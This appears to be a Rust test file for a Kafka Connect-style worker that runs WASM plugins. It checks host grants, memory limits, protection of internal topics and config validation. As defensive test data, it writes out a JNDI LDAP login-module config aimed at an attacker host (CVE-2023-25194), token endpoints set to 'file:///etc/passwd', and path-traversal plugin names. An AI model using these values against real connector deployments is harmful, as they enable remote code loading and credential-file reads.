use strata_worker::WorkerError;

use super::sinks::fill;
use super::*;

#[tokio::test]
async fn a_host_that_is_not_granted_fails_the_task_and_its_neighbours_go_on() {
    let cluster = Memory::new();
    let worker = worker(&cluster).await;
    let sink =
        properties(&[("connector.class", "http-sink"), ("topics", "t"), ("http.url", "http://example.com/")]);
    worker.create("no-grant", sink.clone(), Default::default()).await.unwrap();
    let trace = task_is(&cluster, &worker, "no-grant", 0, State::Failed).await.unwrap();
    assert_eq!(trace, "the plugin imports `strata:plugin/http@0.1.0`, which is not granted to it");

    worker.create("numbers", generator("t", 10), Default::default()).await.unwrap();
    holds(&cluster, "t", 10).await;
    let mut other_host = sink;
    other_host.insert("strata.http.allow".into(), "example.org:80".into());
    worker.create("other-host", other_host, Default::default()).await.unwrap();
    let trace = task_is(&cluster, &worker, "other-host", 0, State::Failed).await.unwrap();
    assert!(trace.contains("example.com:80 is not in the grant"), "{trace}");
    task_is(&cluster, &worker, "numbers", 0, State::Running).await;
    worker.shutdown().await;
}

/// A connector's config named a login module that asked a directory server for code (2023-25194), a token's address that was a
/// file or another's host (2025-27817), an LDAP login (2025-27818).
#[tokio::test]
async fn cve_2023_25194_and_2025_27817_and_2025_27818_a_config_reaches_nothing_that_is_not_granted() {
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let attacker = listener.local_addr().unwrap();
    let cluster = Memory::new();
    let worker = worker(&cluster).await;
    let login = format!(
        "com.sun.security.auth.module.JndiLoginModule required user.provider.url=\"ldap://{attacker}/x\";"
    );
    let addresses =
        [format!("http://{attacker}/"), format!("ldap://{attacker}/x"), "file:///etc/passwd".to_owned()];
    for (number, address) in addresses.iter().enumerate() {
        let mut config = properties(&[
            ("connector.class", "http-sink"),
            ("topics", "t"),
            ("http.url", address),
            ("strata.http.allow", "example.org:80"),
        ]);
        for client in ["producer", "consumer", "admin"] {
            for (key, value) in [
                ("sasl.jaas.config", login.as_str()),
                ("sasl.oauthbearer.token.endpoint.url", address),
                ("sasl.oauthbearer.jwks.endpoint.url", address),
            ] {
                config.insert(format!("{client}.override.{key}"), value.to_owned());
            }
        }
        fill(&cluster, &["a"]).await;
        let name = format!("reaching-{number}");
        worker.create(&name, config, Default::default()).await.unwrap();
        let trace = task_is(&cluster, &worker, &name, 0, State::Failed).await.unwrap();
        assert!(trace.contains(address) && !trace.contains("root:"), "{trace}");
    }
    worker.shutdown().await;
    assert!(listener.accept().is_err(), "the attacker's host was dialled");
}

#[tokio::test]
async fn a_plugin_that_traps_fails_its_task_with_the_reason_and_can_be_restarted() {
    let cluster = Memory::new();
    let worker = worker(&cluster).await;
    let mut config = generator("t", 1000);
    // More than an instance may hold: its allocation fails, or breaks the limit.
    config.insert("value.bytes".into(), "200000000".into());
    worker.create("bomb", config, Default::default()).await.unwrap();
    let trace = task_is(&cluster, &worker, "bomb", 0, State::Failed).await.unwrap();
    assert_eq!(trace, "the plugin wants more than 67108864 bytes of memory");
    let restart = strata_worker::Restart { include_tasks: true, only_failed: true };
    worker.put_config("bomb", generator("t", 5)).await.unwrap();
    worker.restart("bomb", restart).await.unwrap();
    holds(&cluster, "t", 5).await;
    worker.shutdown().await;
}

#[tokio::test]
async fn a_source_may_not_write_to_internal_topics() {
    let cluster = Memory::new();
    let worker = worker(&cluster).await;
    for topic in ["connect-configs", "__consumer_offsets"] {
        worker.create(topic, generator(topic, 1), Default::default()).await.unwrap();
        let trace = task_is(&cluster, &worker, topic, 0, State::Failed).await.unwrap();
        assert_eq!(trace, format!("the plugin writes to `{topic}`, an internal topic"));
    }
    worker.shutdown().await;
}

#[tokio::test]
async fn configs_that_cannot_work_are_refused_with_all_reasons() {
    let cluster = Memory::new();
    let worker = worker(&cluster).await;
    let refused = async |pairs: &[(&str, &str)]| match worker.put_config("c", properties(pairs)).await {
        Err(WorkerError::Invalid(why)) => why,
        other => panic!("{other:?}"),
    };
    assert!(refused(&[("topics", "t")]).await.contains("contains no connector type"));
    assert!(refused(&[("connector.class", "nope")]).await.contains("available are: generator, "));
    assert!(refused(&[("connector.class", "uppercase")]).await.contains("not a connector"));
    assert!(
        refused(&[("connector.class", "/etc/passwd.wasm")])
            .await
            .contains("not in one of the worker's plugin folders")
    );
    assert!(refused(&[("connector.class", "../../../x.wasm")]).await.contains("not in one of"));
    let why = refused(&[
        ("connector.class", "http-sink"),
        ("tasks.max", "x"),
        ("strata.http.allow", "example.com"),
    ])
    .await;
    assert!(why.contains("following 4 error(s)"), "{why}");
    for part in ["Not a number of type INT", "it has no port", "Must configure one of topics", "\"http.url\""]
    {
        assert!(why.contains(part), "{part}: {why}");
    }
    assert!(
        refused(&[("connector.class", "generator"), ("topic", "t"), ("transforms", "x")])
            .await
            .contains("not supported yet")
    );
    assert!(refused(&[("connector.class", "generator"), ("name", "d")]).await.contains("doesn't match"));
    assert!(worker.connectors().await.is_empty());
}

#[tokio::test]
async fn a_connector_whose_plugin_is_gone_is_failed_and_the_others_start() {
    let cluster = Memory::new();
    let record = strata_worker::cluster::NewRecord {
        key: Some("connector-orphan".into()),
        value: Some(r#"{"properties":{"connector.class":"gone","name":"orphan"}}"#.into()),
        ..Default::default()
    };
    strata_worker::cluster::Cluster::append(&cluster, "connect-configs", vec![record]).await.unwrap();
    let worker = worker(&cluster).await;
    let status = worker.status("orphan").await.unwrap();
    assert_eq!(status.connector.state, State::Failed);
    assert!(status.connector.trace.unwrap().contains("Failed to find any plugin named gone"));
    worker.create("numbers", generator("t", 3), Default::default()).await.unwrap();
    holds(&cluster, "t", 3).await;
    worker.shutdown().await;
}
